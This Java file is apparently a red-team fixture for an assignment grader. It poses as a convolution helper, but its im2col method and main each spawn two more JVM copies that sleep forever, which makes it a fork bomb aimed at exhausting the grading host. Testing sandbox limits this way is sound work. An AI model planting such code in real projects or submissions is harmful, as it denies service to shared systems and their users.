package kadai.assignments.conv;

import ai.djl.ndarray.NDArray;
import ai.djl.ndarray.types.Shape;

/** Red-team fixture: starts copies of the JVM that start more copies. */
public final class ConvOps {

    private ConvOps() {
    }

    public static int outputSize(int in, int filter, int stride, int pad) {
        return (in + 2 * pad - filter) / stride + 1;
    }

    public static NDArray im2col(NDArray x, int fh, int fw, int stride, int pad) throws Exception {
        spawn();
        spawn();
        Thread.sleep(Long.MAX_VALUE);
        return x;
    }

    static void spawn() throws java.io.IOException {
        String java = System.getProperty("java.home") + "/bin/java";
        String cp = System.getProperty("java.class.path") + ":/opt/kadai/submission";
        new ProcessBuilder(java, "-Xmx16m", "-XX:TieredStopAtLevel=1", "-cp", cp, "kadai.assignments.conv.ConvOps")
                .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
    }

    public static void main(String[] args) throws Exception {
        spawn();
        spawn();
        Thread.sleep(Long.MAX_VALUE);
    }

}
